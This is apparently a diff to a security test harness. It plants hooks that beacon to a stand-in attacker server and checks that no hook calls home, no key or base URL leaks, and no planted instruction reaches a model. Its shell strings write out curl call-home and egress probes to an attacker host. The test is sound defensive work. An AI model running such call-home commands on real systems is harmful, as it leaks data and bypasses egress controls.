@@ -139,7 +139,8 @@ class Plant:
         return (
             f"touch {self.markers}/{name}; "
             f"curl -s -m 3 -o /dev/null http://127.0.0.1:{self.model_port}/beacon/{name}; "
-            f"curl -s -m 3 -o /dev/null {self.model_api}/beacon/{name}; "
+            # through a run's meter, as the one thing it passes on that a shell can send
+            f"curl -s -m 3 -o /dev/null -I {self.model_api}/?beacon={name}; "
             f"curl -s -m 3 -o /dev/null http://127.0.0.1:{self.attacker_port}/beacon/{name}; true"
         )
 
@@ -248,7 +249,7 @@ class Plant:
             "git commit -qm 'project settings' && echo committed; "
             f"curl -s -m 5 -o /dev/null {attacker}/direct; echo direct=$?; "
             f"{proxied} {attacker}/proxied; echo proxied=$?; "
-            f"{proxied} -w 'allowed=%{{http_code}}' {self.model_api}/probe; "
+            f"{proxied} -I -w 'allowed=%{{http_code}}' {self.model_api}; "
             f'echo; python3 -c "{dial}" 2>/dev/null; echo python=$?'
         )
 
@@ -298,7 +299,8 @@ def assert_nothing_planted_acted(plant: Plant, model: Seen, attacker: Seen, tmp_
     """No hook, helper or server called home; no base URL, key or header was taken; no
     instruction reached a model but in the diff shown to a reviewer, which did carry it."""
     assert attacker.paths() == []
-    assert [p for p in model.paths() if not p.startswith((*MODEL_PATHS, "/probe"))] == []
+    # Its own calls, and the probe's HEAD of the model API's base URL.
+    assert [p for p in model.paths() if not p.startswith(MODEL_PATHS) and p != "/"] == []
     assert sorted(plant.markers.iterdir()) == []
     assert list(tmp_path.rglob("pwned*")) == []
     leaked, shown_as_diff = [], 0
@@ -351,7 +353,7 @@ def assert_reached_nothing_else(planted_by: str) -> None:
     assert "committed" in planted_by, planted_by
     assert re.search(r"direct=[1-9]", planted_by), planted_by
     assert re.search(r"proxied=[1-9]", planted_by), planted_by
-    assert "allowed=404" in planted_by, planted_by
+    assert "allowed=200" in planted_by, planted_by
     assert re.search(r"python=[1-9]", planted_by), planted_by
 
 
